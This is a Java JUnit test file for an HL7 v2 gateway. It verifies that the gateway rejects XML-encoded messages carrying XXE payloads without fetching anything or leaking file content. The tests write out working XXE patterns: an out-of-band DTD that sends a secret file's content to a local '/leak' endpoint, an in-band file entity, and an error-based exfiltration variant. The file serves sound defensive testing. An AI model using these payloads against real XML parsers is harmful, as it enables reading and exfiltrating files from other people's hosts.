package org.cpisgateway;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;

import com.sun.net.httpserver.HttpServer;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * HL7 v2 in its XML encoding, framed over MLLP by a sender nobody logged in, carrying a DTD: an external one on an
 * address the sender controls, an in-band entity naming a file on the gateway's host, and the error-based variant
 * that smuggles a file's content into a parser's error message. None of them may make the gateway call out, and no
 * answer or log line may carry the file's content: the sender gets an AR in the gateway's own words.
 */
class ExternalEntityTest {

    static RunningGateway gateway;
    static HttpServer attacker;
    static final AtomicInteger CALLS = new AtomicInteger();
    static Path secret;
    static final String MARKER = "host-secret-" + UUID.randomUUID();

    @BeforeAll
    static void start() throws Exception {
        secret = TestFolders.temporary("xxe").resolve("secret.txt");
        Files.writeString(secret, MARKER + "\n");
        attacker = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        attacker.createContext("/", exchange -> {
            CALLS.incrementAndGet();
            byte[] dtd = ("<!ENTITY % file SYSTEM \"" + secret.toUri() + "\">"
                    + "<!ENTITY % all \"<!ENTITY send SYSTEM 'http://127.0.0.1:"
                    + attacker.getAddress().getPort() + "/leak?%file;'>\">%all;").getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(200, dtd.length);
            exchange.getResponseBody().write(dtd);
            exchange.close();
        });
        attacker.start();
        gateway = RunningGateway.start();
    }

    @AfterAll
    static void stop() throws Exception {
        if (gateway != null) {
            gateway.close();
        }
        if (attacker != null) {
            attacker.stop(0);
        }
    }

    private static String xmlAdt(String doctype, String controlId) {
        return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n" + doctype + "\n"
                + "<ADT_A04 xmlns=\"urn:hl7-org:v2xml\"><MSH><MSH.1>|</MSH.1><MSH.2>^~\\&amp;</MSH.2>"
                + "<MSH.3><HD.1>PAS</HD.1></MSH.3><MSH.4><HD.1>R9Z01</HD.1></MSH.4>"
                + "<MSH.9><MSG.1>ADT</MSG.1><MSG.2>A04</MSG.2></MSH.9><MSH.10>" + controlId + "</MSH.10>"
                + "<MSH.11><PT.1>P</PT.1></MSH.11><MSH.12><VID.1>2.4</VID.1></MSH.12><MSH.18>&send;</MSH.18></MSH>"
                + "<PID><PID.3><CX.1>9990000018</CX.1></PID.3></PID></ADT_A04>";
    }

    private static AckText send(String message) throws Exception {
        List<String> acks = Mllp.exchange(gateway.mllpPort, Mllp.frame(message.getBytes(StandardCharsets.UTF_8)), 1,
                StandardCharsets.UTF_8, 30_000);
        assertThat(acks).as("one ACK").hasSize(1);
        assertThat(acks.get(0)).doesNotContain(MARKER).doesNotContain("root:");
        return AckText.of(acks.get(0));
    }

    @Test
    void anExternalDtdIsNeverFetched() throws Exception {
        String doctype = "<!DOCTYPE ADT_A04 SYSTEM \"http://127.0.0.1:" + attacker.getAddress().getPort()
                + "/evil.dtd\">";
        AckText ack = send(xmlAdt(doctype, "&send;"));
        assertRefusedInOwnWords(ack);
        assertThat(CALLS).as("requests the gateway made to the sender's address").hasValue(0);
    }

    @Test
    void anInBandFileEntityIsNeverRead() throws Exception {
        String doctype = "<!DOCTYPE ADT_A04 [<!ENTITY send SYSTEM \"" + secret.toUri() + "\">]>";
        assertRefusedInOwnWords(send(xmlAdt(doctype, "&send;")));
    }

    @Test
    void theErrorBasedVariantLeaksNothing() throws Exception {
        String doctype = "<!DOCTYPE ADT_A04 [<!ENTITY % file SYSTEM \"" + secret.toUri() + "\">"
                + "<!ENTITY % eval \"<!ENTITY &#x25; error SYSTEM 'file:///nonexistent/%file;'>\">%eval;%error;]>";
        assertRefusedInOwnWords(send(xmlAdt(doctype, "XXE3")));
        assertThat(CALLS).hasValue(0);
    }

    @Test
    void noLogLineCarriesTheFile() throws Exception {
        anInBandFileEntityIsNeverRead();
        theErrorBasedVariantLeaksNothing();
        LogPrivacy.assertNoneOf(List.of(MARKER));
    }

    private static void assertRefusedInOwnWords(AckText ack) {
        assertThat(ack.field("MSA", 1)).isEqualTo("AR");
        assertThat(ack.field("ERR", 8)).isEqualTo(
                "XML-encoded HL7 v2 is not accepted: this interface takes the ER7 (pipe-delimited) encoding");
    }
}
